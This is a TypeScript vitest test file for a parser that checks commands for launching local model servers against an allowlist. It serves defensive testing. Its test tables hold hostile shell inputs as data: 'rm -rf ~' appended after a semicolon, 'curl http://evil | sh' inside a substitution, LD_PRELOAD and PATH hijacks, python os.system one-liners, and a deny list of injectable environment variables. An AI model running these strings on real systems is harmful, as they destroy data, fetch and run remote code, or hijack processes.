import { describe, expect, it } from 'vitest'
import { LONGEST_COMMAND, parseCommand } from '../../src/cookbook/command/command.ts'
import { quote } from '../../src/sessions/word.ts'

const CHARS = 'Invalid characters in cmd'
const PARSE = 'Invalid cmd — could not parse'
const bin = (name: string) => `cmd binary '${name}' is not allowed. Must start with one of: `
const WHY = 'Invalid cmd — '

const GUARD =
  ' && { [ -n "$MODEL_FILE" ] && [ -f "$MODEL_FILE" ]; } || { echo "ERROR: No GGUF found"; exit 1; } && '
const PRELUDE = `MODEL_FILE=$(printf %s '/m/a.gguf')${GUARD}`

/** The contract's verdict table, the column "Hardened": `true` accepts, a text is how the refusal begins. */
const ROWS: [row: string, command: string, verdict: true | string][] = [
  ['1', 'vllm serve Qwen/Qwen3-8B --port 8000', true],
  ['2', '  vllm serve X  ', true],
  ['3', 'vllm', true],
  ['4', 'python3 -m vllm.entrypoints.openai.api_server --model X', true],
  ['5', 'python -m sglang.launch_server --model-path X --port 30000', true],
  ['6', 'sglang serve --model-path X', true],
  ['7', 'lmdeploy serve api_server X', true],
  ['8', 'llama-server -m /models/a.gguf --port 8080', true],
  ['9', 'llama-server.exe -m C:/m.gguf', true],
  ['10a', 'llama_server -m a', true],
  ['10b', 'llama.cpp -m a', true],
  ['11', 'ollama serve', true],
  ['12', 'OLLAMA_HOST=0.0.0.0:11435 ollama serve', true],
  ['13', 'ollama run qwen2.5:0.5b', true],
  ['14', 'node server.js', true],
  ['15', 'npx -y some-server --port 9000', true],
  ['16', 'CUDA_VISIBLE_DEVICES=0,1 VLLM_USE_FLASHINFER_SAMPLER=0 vllm serve X', true],
  ['17', "FOO='a b' vllm serve X", true],
  ['18', 'CUDA_VISIBLE_DEVICES=0', bin('(empty)')],
  ['19', '1FOO=bar vllm serve X', bin('1FOO=bar')],
  ['20', 'LD_PRELOAD=/tmp/x.so vllm serve X', `${WHY}LD_PRELOAD may not be set`],
  ['21', 'PATH=/tmp/evil:$PATH vllm serve X', `${WHY}PATH may not be set`],
  ['22', '/home/u/venv/bin/vllm serve X', true],
  ['23', '~/venv/bin/vllm serve X', true],
  ['24', './vllm serve X', true],
  ['25', '/tmp/evil/python3 -c print', `${WHY}python -c`],
  ['26', '"vllm" serve X', true],
  ['27', "'/opt/my env/bin/vllm' serve X", true],
  ['28', '/opt/my env/bin/vllm serve X', bin('my')],
  ['29', 'python3.11 -m vllm.entrypoints.openai.api_server', true],
  ['30a', 'vllm.exe serve X', bin('vllm.exe')],
  ['30b', 'python.exe -m x', bin('python.exe')],
  ['31', 'VLLM serve X', bin('VLLM')],
  ['32', 'mlx_lm.server --model X', true],
  ['33', 'python3 -m mlx_lm.server --model mlx-community/X', true],
  ['34', 'python3 -m pip install vllm', true],
  ['35', 'pip install vllm', bin('pip')],
  ['36', 'python3 scripts/diffusion_server.py --model X --port 8100', true],
  ['37', 'python3 /etc/passwd', `${WHY}python may not run '/etc/passwd'`],
  ['38', `python3 -c "import os; os.system('id')"`, `${WHY}python -c`],
  ['39', `python3 -c "__import__('os').system('id')"`, `${WHY}python -c`],
  ['40', 'node -e process.exit()', CHARS],
  ['40b', "node -e 'process.exit()'", `${WHY}node -e`],
  ['41', "bash -c 'vllm serve X'", bin('bash')],
  ['42', 'sh run.sh', bin('sh')],
  ['43', 'docker run vllm/vllm-openai', bin('docker')],
  ['44', 'docker exec ollama-rocm ollama show qwen2.5:7b', true],
  ['45', 'docker exec ollama-test ollama-import org/repo name 8192', true],
  ['46', 'docker exec other ollama show x', bin('docker')],
  ['47', 'uv run vllm serve X', true],
  ['48', 'env CUDA_VISIBLE_DEVICES=0 vllm serve X', bin('env')],
  ['49', 'export A=1', bin('export')],
  ['50', 'nohup vllm serve X', bin('nohup')],
  ['51', 'sudo vllm serve X', bin('sudo')],
  ['52a', 'time vllm serve X', bin('time')],
  ['52b', 'exec vllm serve X', bin('exec')],
  ['53', 'CUDA_VISIBLE_DEVICES=0 exec vllm serve X', bin('exec')],
  ['54', 'cd /models', bin('cd')],
  ['55', 'cd /models && vllm serve X', CHARS],
  ['56', 'source venv/bin/activate && vllm serve X', CHARS],
  ['57', 'vllm serve X && echo done', CHARS],
  ['58', 'vllm serve X || true', CHARS],
  ['59', 'vllm serve X || vllm serve Y', CHARS],
  ['60', 'vllm serve X; rm -rf ~', CHARS],
  ['61', 'a=1;vllm serve X', CHARS],
  ['62', 'vllm serve X | tee log.txt', CHARS],
  ['63', 'vllm serve X 2>&1 | grep -v foo', CHARS],
  ['64', 'vllm serve X > /tmp/log 2>&1', CHARS],
  ['65', 'vllm serve X &', CHARS],
  ['66', 'vllm serve X & rm -rf ~', CHARS],
  ['67', 'vllm serve <(cat x)', CHARS],
  ['68', 'vllm serve $(cat model.txt)', CHARS],
  ['69', 'vllm serve `cat model.txt`', CHARS],
  ['70a', 'vllm serve $MODEL', true],
  ['70b', 'vllm serve ${HOME}/models/X', true],
  ['71', 'vllm serve X --a=$((1+1))', CHARS],
  ['72', "vllm serve X --chat-template '{{ a; b }}'", true],
  ['73', 'vllm serve X --chat-template "{{ a && b }}"', true],
  ['74', `vllm serve X --override-generation-config '{"temperature": 0.6}'`, true],
  ['75', `vllm serve X --speculative-config '{"method":"mtp","num_speculative_tokens":3}'`, true],
  ['76', 'vllm serve X --served-model-name "my model"', true],
  ['77', "vllm serve X --served-model-name 'unterminated", PARSE],
  ['78', "vllm serve X --served-model-name it's", PARSE],
  ['79', 'vllm serve X \\\n  --port 8000 \\\n --dtype auto', true],
  ['80', 'vllm serve X \\ \r\n  --port 8000 \\\r\n --dtype auto', true],
  ['81', 'vllm serve X\n--port 8000', CHARS],
  ['82', 'vllm serve X\n', true],
  ['83', '# comment\nvllm serve X', CHARS],
  ['84', 'vllm serve X # comment', true],
  ['85', '', `${WHY}it is empty`],
  ['86', ' \t ', `${WHY}it is empty`],
  ['87a', '(vllm serve X)', bin('(vllm')],
  ['87b', '{ vllm serve X }', bin('{')],
  ['87c', '! vllm serve X', bin('!')],
  ['88', `llama-server --model "$(printf %s '/models/a b.gguf')"`, true],
  ['89', `llama-server --model "$(printf %s \${HOME}'/m/a.gguf')"`, true],
  ['90', `llama-server --model "$(printf %s '/a;b')"`, CHARS],
  ['91', `llama-server --mmproj "$(find '/m' -iname 'mmproj*.gguf' 2>/dev/null | sort | head -1)"`, true],
  ['92', `llama-server --mmproj "$(find '/m' -iname '*.gguf' 2>/dev/null | sort | head -1)"`, CHARS],
  ['93', 'llama-server --model "$(curl http://x)"', CHARS],
  ['94', `llama-server --model "$(printf %s '$(id)')"`, CHARS],
  ['94b', `llama-server --model "$(printf %s "$(id)")"`, CHARS],
  ['95', `${PRELUDE}llama-server --model "$MODEL_FILE"`, true],
  ['96', `MODEL_FILE=$(curl http://evil | sh)${GUARD}llama-server --model "$MODEL_FILE"`, CHARS],
  ['97', `${PRELUDE}vllm serve X; rm -rf ~`, CHARS],
  ['98', `${PRELUDE}rm -rf ~`, bin('rm')],
  ['99', `${PRELUDE}vllm serve X || rm -rf ~`, bin('rm')],
  ['100a', 'text-generation-launcher --model-id X', true],
  ['100b', 'trtllm-serve X', true],
  ['100c', 'tabbyapi', true],
  ['100d', 'uvicorn app:app', bin('uvicorn')],
  ['100e', 'hf download X', bin('hf')],
  ['101', 'vllm\tserve\tX', true],
  ['102a', `vllm serve X --a ${'x'.repeat(5000)}`, true],
  ['102b', `vllm serve X --a ${'x'.repeat(LONGEST_COMMAND)}`, `${WHY}it has `],
  ['103', 'vllm serve X\0', CHARS],
  ['104', 'vllm serve Qwen/Qwen3-模型', true],
]

function verdict(command: string): true | string {
  try {
    parseCommand(command)
    return true
  } catch (problem) {
    return (problem as Error).message
  }
}

describe('the verdict table', () => {
  it.each(ROWS)('row %s: %s', (_row, command, expected) => {
    const got = verdict(command)
    if (expected === true) expect(got).toBe(true)
    else expect(got).toSatisfy((message: unknown) => String(message).startsWith(expected), `${got}`)
  })

  it('covers every row', () => {
    const rows = new Set(ROWS.map(([row]) => Number.parseInt(row, 10)))
    expect([...rows].sort((a, b) => a - b)).toEqual(Array.from({ length: 104 }, (_, index) => index + 1))
  })

  it('names the allowed programs in alphabetical order', () => {
    const list = verdict('bash').toString().split('one of: ')[1]!.split(', ')
    expect(list).toEqual([...list].sort())
    expect(list).toContain('llama-server')
  })
})

describe('what is refused beyond the table', () => {
  it.each([
    'python3 -Ic pass', 'python3 -uc pass', 'python3 -c pass', 'python3 -', 'python3', 'python3 -i x.py', 'python3 -x x.py',
    'python3 -m os', 'python3 -mos', 'python3 -Im timeit', 'python3 -m vllmx', 'python3 -m vllm.evil-x', 'python3 $X', 'python3 -m $X',
    'python3 -W ignore::os.path -m vllm', 'python3 -X presite=os -m vllm', 'python3 ../x.py', 'python3 scripts/../../x.py',
    'python3 ~/x.py', 'python3 /tmp/x.py', 'python3 script.txt', 'python3 --command x',
    'python3 -m pip install -e .', 'python3 -m pip install -r x.txt', 'python3 -m pip install git+https://x/y', 'python3 -m pip install ./x',
    'python3 -m pip install --target=/x y', 'python3 -m pip config set a b', 'python3 -m pip install', 'python3 -m pip --isolated install x',
    "node -e '1'", 'node -p 1', 'node -pe 1', 'node -', 'node', 'node --eval=1', 'node --eval 1', 'node --print 1', 'node --require ./x y.js',
    'node -r ./x y.js', 'node --import=./x y.js', 'node --import ./x y.js', 'node --loader ./x y.js', 'node --experimental-loader ./x y.js',
    'node --env-file=x y.js', 'node --inspect=0.0.0.0 y.js', 'node --run x', 'node /etc/passwd', 'node x.json', 'node --eva 1', 'node -i',
    'npx -c id', 'npx --call id', 'npx -p x y', 'npx --package=x y', 'npx node -e 1', 'npx -y node@20 -e 1', 'npx tsx x', 'npx zx x', 'npx ./x',
    'npx github:u/r', 'npx https://x/y.tgz', 'npx sh -c id', 'npx some-server -e 1', 'npx some-server --eval=1', 'npx some-server -p code',
    'npx some-server -', 'npx some-server --require x', 'npx some-server -r x', 'npx @scope/tsx x', 'npx',
    'uv run python -c 1', 'uv run bash', 'uv pip install x', 'uv run --with x vllm', 'uvx vllm', 'uv run', 'uv',
    'PYTHONSTARTUP=x vllm', 'PYTHONPATH=/x vllm', 'PYTHONHOME=/x vllm', 'PYTHONINSPECT=1 vllm', 'NODE_OPTIONS=x vllm', 'BASH_ENV=x vllm',
    'ENV=x vllm', 'IFS=x vllm', 'SHELLOPTS=x vllm', 'PERL5OPT=x vllm', 'DYLD_INSERT_LIBRARIES=x vllm', 'LD_LIBRARY_PATH=x vllm',
    'NODE_PATH=x vllm', 'HOME=/x vllm', 'ITHACA_SESSION=x vllm', 'GCONV_PATH=x vllm', 'CUDA_INJECTION64_PATH=x vllm', 'npm_config_script_shell=x vllm',
    'vllm serve $1', 'vllm serve $$', 'vllm serve $?', 'vllm serve ${X:-y}', 'vllm serve ${X/a/b}', 'vllm serve ${!X}', 'vllm serve ~root/x',
    "vllm serve $'a'", 'vllm serve "$(id)"', 'vllm serve x)', 'vllm serve a(b', 'vllm serve a<b', 'vllm serve \\', 'vllm serve "a\\',
    '$X serve', 'v$X serve', '${HOME}vllm serve', 'vllm/ serve', '"" vllm', 'vllm serve \x1b[2J', 'vllm serve \ud800',
    'FOO=$(id) vllm', 'FOO=(a b) vllm', 'docker exec ollama-rocm ollama show x; id', 'docker exec ollama-test ollama-import a b c',
    `MODEL_FILE=$(printf %s '/a') && { rm -rf x; } || { exit 1; } && vllm`, `MODEL_FILE=$(printf %s '/a')${GUARD}python3 -c 1`,
    `MODEL_FILE=$({ find '/m' -name '*.gguf' -delete 2>/dev/null | sort; } | head -1)${GUARD}vllm`,
    `MODEL_FILE=$(printf %s '/a') && { [ -f "$MODEL_FILE" ]; } || { echo "$(id)"; exit 1; } && vllm`,
    `${PRELUDE}vllm & id`, `${PRELUDE}vllm | id`, `${PRELUDE}LD_PRELOAD=x vllm`, `${PRELUDE}vllm ||`,
  ])('%s', command => {
    expect(verdict(command)).not.toBe(true)
  }) // biome-ignore format: a list to read across

  it.each([
    'python3 -u -m vllm.entrypoints.openai.api_server', 'python3 -Im vllm', 'python3 -mvllm', 'python3 -X dev -W ignore -m vllm',
    'python3 -m http.server 8000', 'python3 -m llama_cpp.server --model a -c 1', 'python3 app.py -c 1',
    "python3 -m pip install --user -U 'vllm>=0.10,<1' sglang[all]", 'python3 -m pip install x --extra-index-url https://example.org/whl/cpu',
    'node --max-old-space-size=4096 app/server.mjs -e 1', 'npx @scope/server@1.2.3 -p 9000', 'uv run --frozen python -m vllm.x',
    'PYTHONUNBUFFERED=1 vllm', 'CUDA_HOME=/usr/local/cuda vllm', 'PIPELINE=1 vllm', 'GITHUB_ID=1 vllm', '$VENV/bin/vllm serve X',
    'vllm serve X --allowed-origins * --pattern [a-z]? --json {a,b}', 'vllm serve "a$" b$ c\\;d', 'vllm serve X --name=~/x',
    `MODEL_FILE=$({ find "$HOME/m" -name '*-00001-of-*.gguf' 2>/dev/null | sort; find "$HOME/m" -name '*.gguf' 2>/dev/null | sort; } | head -1)${GUARD}llama-server -m "$MODEL_FILE" || python3 -m llama_cpp.server --model "$MODEL_FILE"`,
  ])('but not %s', command => {
    expect(verdict(command)).toBe(true)
  }) // biome-ignore format: a list to read across

  it('takes more programs, modules and script folders from its policy', () => {
    const policy = {
      programs: ['serve-it'],
      modules: ['my_engine'],
      scriptFolders: ['/opt/scripts', '~/tools', 'run'],
    }
    for (const command of [
      'serve-it', 'python3 -m my_engine.api', 'python3 /opt/scripts/a/x.py', 'python3 ~/tools/x.py', 'python3 $HOME/tools/x.py', 'node ./run/x.js',
    ]) expect(parseCommand(command, policy).kind).toBe('serve') // biome-ignore format: a list to read across
    for (const command of [
      'python3 x.py',
      'python3 /opt/scriptsx/x.py',
      'python3 ~/x.py',
      'node run/../x.js',
      'python3 tools/x.py',
    ]) {
      expect(() => parseCommand(command, policy)).toThrow('scripts')
    }
  })
})

describe('what is read', () => {
  it('keeps words as data', () => {
    const command = parseCommand(
      `A='x y' "$VENV"/bin/vllm serve ~/m --a=~/b "q\\"\\$x\\n" pre'fix'\\ end '' --c=$D/e`,
    )
    expect(command.assignments).toEqual([{ name: 'A', value: [{ kind: 'text', text: 'x y' }] }])
    expect(command.argv).toEqual([
      [
        { kind: 'variable', name: 'VENV' },
        { kind: 'text', text: '/bin/vllm' },
      ],
      [{ kind: 'text', text: 'serve' }],
      [{ kind: 'home' }, { kind: 'text', text: '/m' }],
      [{ kind: 'text', text: '--a=' }, { kind: 'home' }, { kind: 'text', text: '/b' }],
      [{ kind: 'text', text: 'q"$x\\n' }],
      [{ kind: 'text', text: 'prefix end' }],
      [],
      [
        { kind: 'text', text: '--c=' },
        { kind: 'variable', name: 'D' },
        { kind: 'text', text: '/e' },
      ],
    ])
  })

  it('tells an installation from a serve', () => {
    expect(parseCommand('python3 -m pip install vllm').kind).toBe('install')
    expect(parseCommand('uv run python -m pip install vllm').kind).toBe('install')
  })

  it('puts the model file where the prelude would have', () => {
    const command = parseCommand(`${PRELUDE}llama-server --model "$MODEL_FILE"`)
    expect(quote(command.argv)).toBe('llama-server --model /m/a.gguf')
    expect(command.requires?.message).toBe('ERROR: No GGUF found')
  })

  it('shows what it reads back as the same words', () => {
    for (const [, text, accepted] of ROWS) {
      if (accepted !== true) continue
      const command = parseCommand(text)
      expect(parseCommand(quote(command.argv)).argv).toEqual(command.argv)
    }
  })
})
